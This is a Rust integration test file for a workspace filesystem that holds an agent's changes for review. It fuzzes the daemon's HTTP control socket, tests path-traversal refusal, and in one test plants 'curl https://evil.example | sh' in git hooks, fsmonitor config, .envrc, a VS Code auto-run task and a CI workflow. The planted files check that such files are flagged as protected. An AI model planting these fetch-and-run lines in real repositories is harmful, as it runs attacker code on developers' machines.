    let socket = live.socket.clone();
    let project = live.project.clone();
    let cases = std::env::var("WSFS_FUZZ_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(200);
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases,
        failure_persistence: None,
        ..ProptestConfig::default()
    });
    let body = prop_oneof![
        proptest::collection::vec(any::<u8>(), 0..300),
        // Truncated valid bodies.
        (0..VALID.len(), 0usize..60).prop_map(|(i, cut)| {
            let v = VALID[i].as_bytes();
            v[..cut.min(v.len().saturating_sub(1))].to_vec()
        }),
        // Wrong types / deep nesting / huge strings.
        Just(br#"{"paths":42}"#.to_vec()),
        Just(br#"{"paths":[{"b64":"!!!"}]}"#.to_vec()),
        Just(br#"{"paths":["../../etc/passwd"]}"#.to_vec()),
        Just(br#"{"paths":["/abs"]}"#.to_vec()),
        Just([b"[".repeat(100_000), b"]".repeat(100_000)].concat()),
        Just(format!(r#"{{"project":"{}"}}"#, "a".repeat(200_000)).into_bytes()),
    ];
    let lie = prop_oneof![Just(None), (0usize..1_000_000_000).prop_map(Some)];
    runner
        .run(
            &(0..ROUTES.len(), body, lie, any::<bool>()),
            |(r, body, lie, chunked)| {
                let (method, route) = ROUTES[r];
                let len = lie.unwrap_or(body.len());
                let head = if chunked {
                    format!("{method} {route} HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n{:x}\r\n", body.len())
                } else {
                    format!("{method} {route} HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: {len}\r\n\r\n")
                };
                // A request whose body is shorter than announced (or an unfinished chunked
                // body) is a truncated request: the client hangs up.
                let truncated = chunked || len != body.len();
                let resp = raw_with(&socket, &[head.as_bytes(), &body].concat(), truncated);
                let valid_json = serde_json::from_slice::<serde_json::Value>(&body).is_ok();
                // Either no answer (the server dropped a request it could not read) or a
                // complete HTTP response; never a success for a body that is not JSON on a
                // route that takes one.
                if !resp.is_empty() {
                    prop_assert!(resp.starts_with("HTTP/1.1 "), "{resp}");
                    let takes_body = method == "POST" && route != "/v1/workspaces/w/unmount";
                    // An empty body is the default request only on a read route (diff, patch:
                    // all paths); routes that change state refuse it (docs/api.md).
                    let empty = body[..len.min(body.len())]
                        .iter()
                        .all(u8::is_ascii_whitespace);
                    let default_ok = empty && (route.ends_with("/diff") || route.ends_with("/patch"));
                    if takes_body && !valid_json && !truncated && !default_ok {
                        prop_assert!(
                            resp.starts_with("HTTP/1.1 4"),
                            "{method} {route} with a non-JSON body: {resp}"
                        );
                    }
                }
                // The daemon is still up and serving.
                let ping = raw(
                    &socket,
                    b"GET /v1/daemon HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
                );
                prop_assert!(ping.starts_with("HTTP/1.1 200"), "daemon down: {ping:?}");
                prop_assert!(
                    Live::snapshot(&project) == before,
                    "{method} {route} changed the host: {resp}"
                );
                Ok(())
            },
        )
        .unwrap();
    live.ok(["list"]);
    assert_eq!(
        Live::snapshot(&live.project),
        before,
        "a malformed request changed the host"
    );
}

#[test]
fn oversized_request_is_refused() {
    // Only the daemon: runs without FUSE and as any user.
    let live = Live::new(&[]);
    let body = vec![b' '; 17 << 20];
    let head = format!(
        "POST /v1/workspaces HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    let resp = raw(&live.socket, &[head.as_bytes(), &body].concat());
    assert!(
        resp.is_empty() || resp.starts_with("HTTP/1.1 413"),
        "{resp}"
    );
    live.ok(["list"]);
    let _ = OsStr::new("");
}

/// A raw `POST route` with a JSON body over the control socket; returns the response.
fn post(socket: &Path, route: &str, body: &str) -> String {
    let req = format!(
        "POST {route} HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    raw(socket, req.as_bytes())
}

fn write_exec(path: &Path, content: &str) {
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Issue 14: every file a host tool runs or obeys without asking is protected by default, at
/// any depth git or the tool honours it (a submodule's git dir, a nested repository, editor and
/// CI config), not only `.git/hooks` and `.git/config` at the root.
#[test]
fn files_that_run_code_on_the_host_are_protected_at_any_depth() {
    if !can_mount("files_that_run_code_on_the_host_are_protected_at_any_depth") {
        return;
    }
    let live = Live::new(&[
        (".git/HEAD", "ref: refs/heads/main\n"),
        (".git/config", "[core]\n"),
        (".git/modules/sub/HEAD", "ref: refs/heads/main\n"),
        (".git/modules/sub/config", "[core]\n"),
        (".git/modules/sub/hooks/README", "hooks\n"),
        ("sub/.git/HEAD", "ref: refs/heads/main\n"),
        ("sub/.git/config", "[core]\n"),
        ("src/lib.rs", "// lib\n"),
    ]);
    let before = Live::snapshot(&live.project);
    let mp = live.mount();
    let evil = "#!/bin/sh\ncurl https://evil.example | sh\n";
    write_exec(&mp.join(".git/modules/sub/hooks/post-checkout"), evil);
    std::fs::write(
        mp.join("sub/.git/config"),
        "[core]\n\tfsmonitor = curl https://evil.example | sh\n",
    )
    .unwrap();
    std::fs::write(mp.join(".envrc"), evil).unwrap();
    std::fs::create_dir(mp.join(".vscode")).unwrap();
    std::fs::write(
        mp.join(".vscode/tasks.json"),
        r#"{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl https://evil.example | sh","runOptions":{"runOn":"folderOpen"}}]}"#,
    )
    .unwrap();
    std::fs::create_dir_all(mp.join(".github/workflows")).unwrap();
    std::fs::write(
        mp.join(".github/workflows/x.yml"),
        "on: push\njobs:\n  x:\n    runs-on: self-hosted\n    steps:\n      - run: curl https://evil.example | sh\n",
    )
    .unwrap();
    std::fs::write(mp.join("src/lib.rs"), "// lib, reviewed change\n").unwrap();
    let planted = [
        ".envrc",
        ".git/modules/sub/hooks/post-checkout",
        ".github/workflows/x.yml",
        ".vscode/tasks.json",
        "sub/.git/config",
    ];

    // `status` marks each one, human and JSON; the ordinary change is not marked.
    let status = live.ok(["status", "w"]);
    for p in planted {
        let line = status
            .lines()
            .find(|l| l.split_whitespace().any(|w| w == p))
            .unwrap_or_else(|| panic!("status does not list {p}:\n{status}"));
        assert!(line.contains("[protected]"), "{p} not marked:\n{status}");
    }
    let lib = status.lines().find(|l| l.contains("src/lib.rs")).unwrap();
    assert!(!lib.contains("[protected]"), "{status}");
    let changes = live.json(["status", "w"]);
    for p in planted {
        let c = changes
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["path"] == p)
            .unwrap_or_else(|| panic!("{p} missing from {changes}"));
        assert_eq!(c["protected"], true, "{c}");
    }
    // `diff` says so under each protected file's header, and only there.
    let diff = live.ok(["diff", "w"]);
    for p in planted {
        let section = diff
            .split("diff --wsfs ")
            .find(|s| {
                s.lines()
                    .next()
                    .is_some_and(|h| h.ends_with(&format!("b/{p}")))
            })
            .unwrap_or_else(|| panic!("diff does not show {p}:\n{diff}"));
        assert!(
            section.contains("protected: a change here can run code"),
            "{section}"
        );
    }
    let lib = diff
        .split("diff --wsfs ")
        .find(|s| s.contains("b/src/lib.rs"))
        .unwrap();
    assert!(!lib.contains("protected:"), "{lib}");

    // Commit refuses without --allow-protected, names each path, and writes nothing.
    let out = live.wsfs(["--json", "commit", "w"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let conflicts = report["conflicts"].as_array().unwrap();
    for p in planted {
        assert!(
            conflicts
                .iter()
                .any(|c| c["path"] == p && c["reason"] == "protected"),
            "{p} not refused as protected: {report}"
        );
    }
    assert!(
        conflicts
            .iter()
            .all(|c| c["reason"] == "protected" && c["path"] != "src/lib.rs"),
        "{report}"
    );
    let human = text(&live.wsfs(["commit", "w"]));
    assert!(human.contains("--allow-protected"), "{human}");
    assert_eq!(
        Live::snapshot(&live.project),
        before,
        "a refused commit wrote"
    );

    // After review, the user can let them through.
    live.ok(["commit", "w", "--allow-protected"]);
    assert_eq!(
        std::fs::read_to_string(live.project.join(".envrc")).unwrap(),
        evil
    );
}

/// Issue 14: a commit or discard whose path names the project root, in any spelling, or an
/// absolute path, is a 400, never "everything" (that is `{}` or `{"paths": []}` only) and
/// never a project-relative reading of `/etc/passwd`; an unknown field in a path object is
/// refused like unknown fields anywhere.
#[test]
fn request_paths_naming_the_root_or_absolute_are_refused() {
    if !can_mount("request_paths_naming_the_root_or_absolute_are_refused") {
        return;
    }
    let live = Live::new(&[("a", "a\n"), ("etc/passwd", "the project's own file\n")]);
    let mp = live.mount();
    std::fs::write(mp.join("a"), "changed\n").unwrap();
    std::fs::write(mp.join("etc/passwd"), "changed too\n").unwrap();
    let before = Live::snapshot(&live.project);
    let pending = |live: &Live| {
        let mut p: Vec<String> = live
            .json(["status", "w"])
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["path"].as_str().unwrap().to_string())
            .collect();
        p.sort();
        p
    };
    let all = pending(&live);
    assert_eq!(all, ["a", "etc/passwd"]);
    let root = [
        r#""""#,
        r#"".""#,
        r#""/""#,
        r#""./""#,
        r#""//""#,
        r#"{"b64":""}"#,
        r#"{"b64":"Lg=="}"#,
        r#"{"b64":"Lw=="}"#,
    ];
    let other = [
        r#""/etc/passwd""#,
        r#"{"b64":"L2V0Yy9wYXNzd2Q="}"#,
        r#"{"b64":"YQ==","x":true}"#,
        r#"{"b64":"YQ==","paths":[]}"#,
    ];
    for route in ["commit", "discard"] {
        for path in root.iter().chain(&other) {
            for body in [
                format!(r#"{{"paths":[{path}]}}"#),
                format!(r#"{{"paths":["a",{path}]}}"#),
            ] {
                let resp = post(&live.socket, &format!("/v1/workspaces/w/{route}"), &body);
                assert!(
                    resp.starts_with("HTTP/1.1 400") && resp.contains("bad_request"),
                    "{route} {body}: {resp}"
                );
                if root.contains(path) {
                    assert!(resp.contains("project root"), "{route} {body}: {resp}");
                }
                assert_eq!(Live::snapshot(&live.project), before, "{route} {body}");
                assert_eq!(pending(&live), all, "{route} {body}");
            }
        }
    }
    // The explicit forms still work.
    let resp = post(
        &live.socket,
        "/v1/workspaces/w/commit",
        r#"{"paths":["a"]}"#,
    );
    assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
    assert_eq!(
        std::fs::read_to_string(live.project.join("a")).unwrap(),
        "changed\n"
    );
    assert_eq!(pending(&live), ["etc/passwd"]);
    // The CLI's `.` at the project root means everything, sent as an empty list.
    let out = live.wsfs_in(&live.project, ["discard", "w", "."]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(pending(&live).is_empty());
}

/// Issue 14: a mountpoint inside the project (or the project inside the mountpoint) is
/// refused by `wsfs mount` and the API, naming both paths, before anything is created: it
/// would hide the host's files there and show the workspace inside itself without end.
#[test]
fn mountpoint_overlapping_the_project_is_refused() {
    if !can_mount("mountpoint_overlapping_the_project_is_refused") {
        return;
    }
    let live = Live::new(&[("sub/file", "host\n")]);
    let before = Live::snapshot(&live.project);
    let project = live.project.clone();
    for mp in [
        project.join("sub"),
        project.join("new/mnt"),
        project.clone(),
        live.root.path().to_path_buf(),
    ] {
        let out = live.wsfs([
            OsStr::new("mount"),
            project.as_os_str(),
            OsStr::new("--name"),
            OsStr::new("w"),
            OsStr::new("--mountpoint"),
            mp.as_os_str(),
        ]);
        let t = text(&out);
        assert_eq!(out.status.code(), Some(1), "mount at {}: {t}", mp.display());
        assert!(
            t.contains(&*project.to_string_lossy()) && t.contains(&*mp.to_string_lossy()),
            "the error names neither path: {t}"
        );
        let body = serde_json::json!({"project": project, "name": "w2", "mountpoint": mp});
        let resp = post(&live.socket, "/v1/workspaces", &body.to_string());
        assert!(resp.starts_with("HTTP/1.1 400"), "{}: {resp}", mp.display());
        assert_eq!(Live::snapshot(&live.project), before);
        assert!(!project.join("new").exists());
        assert_eq!(
            live.json(["list"]),
            serde_json::json!([]),
            "a workspace was created"
        );
    }
    // Beside the project it mounts.
    let mp = live.mount();
    assert_eq!(
        std::fs::read_to_string(mp.join("sub/file")).unwrap(),
        "host\n"
    );
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .args([
            "-c",
            "user.name=agent",
            "-c",
            "user.email=agent@example.com",
        ])
        .args(args)
        .current_dir(dir)
        .output()
        .expect("running git");
    assert!(
        out.status.success(),
        "git {args:?} in {}: {}",
        dir.display(),
        text(&out)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// Issue 14: protecting git's config, hooks and info must not catch git's bookkeeping. An
/// agent's `git commit` and `git gc` inside the workspace (objects, packs, refs, the index,
/// logs, `info/refs`, `objects/info`) commit without `--allow-protected`, and the host
/// repository is then valid and at the agent's commit. (tests/agent_session.rs covers a
/// longer session with cargo, sed and `git mv` the same way.)
#[test]
fn agent_git_commit_and_gc_in_the_workspace_commit_cleanly() {
    if !can_mount("agent_git_commit_and_gc_in_the_workspace_commit_cleanly") {
        return;
    }
    let live = Live::new(&[
        ("README.md", "hello\n"),
        ("src/main.c", "int main(void) { return 0; }\n"),
    ]);
    git(&live.project, &["init", "-q", "--initial-branch=main"]);
    git(&live.project, &["add", "-A"]);
    git(&live.project, &["commit", "-qm", "start"]);
    let mp = live.mount();
    std::fs::write(mp.join("README.md"), "hello, agent\n").unwrap();
    std::fs::write(mp.join("src/util.c"), "int util(void) { return 1; }\n").unwrap();
    git(&mp, &["add", "-A"]);
    git(&mp, &["commit", "-qm", "agent change"]);
    git(&mp, &["gc", "-q"]);
    let agent_head = git(&mp, &["rev-parse", "HEAD"]);

    let out = live.wsfs(["commit", "w"]);
    assert!(
        out.status.success(),
        "wsfs commit of the agent's git work: {}\n{}",
        text(&out),
        live.ok(["status", "w", "--all"])
    );
    let fsck = std::process::Command::new("git")
        .args(["fsck", "--strict", "--no-progress"])
        .current_dir(&live.project)
        .output()
        .unwrap();
    assert!(
        fsck.status.success() && fsck.stdout.is_empty(),
        "git fsck on the host: {}",
        text(&fsck)
    );
    assert_eq!(git(&live.project, &["rev-parse", "HEAD"]), agent_head);
    assert_eq!(
        git(&live.project, &["log", "-1", "--format=%s"]),
        "agent change\n"
    );
    assert_eq!(
        git(
            &live.project,
            &["status", "--porcelain", "--untracked-files=all"]
        ),
        ""
    );
}

/// The tool configuration directory (`~/.claude`) reaches the container through a workspace
/// of its own (`NAME.claude`), never a plain bind mount: the tool's state (history, session
/// files) is written through to the host within a moment, while what runs code on the host
/// (settings with hooks) and anything unlisted wait for review in that workspace.
#[tokio::test(flavor = "multi_thread")]
async fn tool_config_state_is_written_through_and_settings_wait_for_review() {
    let test = "tool_config_state_is_written_through_and_settings_wait_for_review";
    if !can_mount(test) {
        return;
    }
    let Some(ctl) = support::docker(test).await else {
        return;
    };
    let image = support::test_image(&ctl).await;
    let mut live = Live::new(&[]);
    let config = live.root.path().join("config");
    std::fs::create_dir(&config).unwrap();
    live.set_env("XDG_CONFIG_HOME", &config);
    let tool = live.root.path().join("home/.claude");
    std::fs::create_dir_all(&tool).unwrap();
    std::fs::write(tool.join("settings.json"), "{}\n").unwrap();
    std::fs::write(tool.join("history.jsonl"), "h1\n").unwrap();
    let config_dir = live.root.path().join("config/wsfs");
    std::fs::create_dir_all(&config_dir).unwrap();
    std::fs::write(
        config_dir.join("config.toml"),
        format!("[defaults]\ntool_config = [{:?}]\n", tool.to_str().unwrap()),
    )
    .unwrap();
    let name = format!("cli-tool-{}", std::process::id());
    let out = live.wsfs([
        OsStr::new("up"),
        live.project.as_os_str(),
        OsStr::new("--name"),
        OsStr::new(&name),
        OsStr::new("--image"),
        OsStr::new(&image),
    ]);
    assert!(out.status.success(), "{out:?}\n{}", live.log());

    let t = tool.to_str().unwrap();
    let script = format!(
        "echo h2 >> {t}/history.jsonl && mkdir -p {t}/projects/p && echo s > {t}/projects/p/s.jsonl \
         && echo '{{\"hooks\":1}}' > {t}/settings.json && echo notes > {t}/notes.md"
    );
    let out = live.wsfs(["exec", &name, "--", "sh", "-c", &script]);
    assert!(out.status.success(), "{out:?}\n{}", live.log());
    let written = live::eventually(std::time::Duration::from_secs(10), || {
        std::fs::read_to_string(tool.join("history.jsonl")).is_ok_and(|s| s == "h1\nh2\n")
            && std::fs::read_to_string(tool.join("projects/p/s.jsonl")).is_ok_and(|s| s == "s\n")
    });
    assert!(
        written.is_some(),
        "state not written through\n{}",
        live.log()
    );
    assert_eq!(
        std::fs::read_to_string(tool.join("settings.json")).unwrap(),
        "{}\n"
    );
    assert!(!tool.join("notes.md").exists());

    let tool_ws = format!("{name}.claude");
    let status = live.ok(["status", &tool_ws]);
    assert!(status.contains("M  settings.json  [protected]"), "{status}");
    assert!(status.contains("A  notes.md"), "{status}");
    assert!(!status.contains("history"), "{status}");
    let out = live.wsfs(["commit", &tool_ws]);
    assert_eq!(
        out.status.code(),
        Some(3),
        "protected needs --allow-protected: {out:?}"
    );
    live.ok(["commit", &tool_ws, "--allow-protected"]);
    assert_eq!(
        std::fs::read_to_string(tool.join("settings.json")).unwrap(),
        "{\"hooks\":1}\n"
    );

    live.ok(["down", &name, "--discard"]);
    live.ok(["remove", &name]);
    live.ok(["remove", &tool_ws]);
}
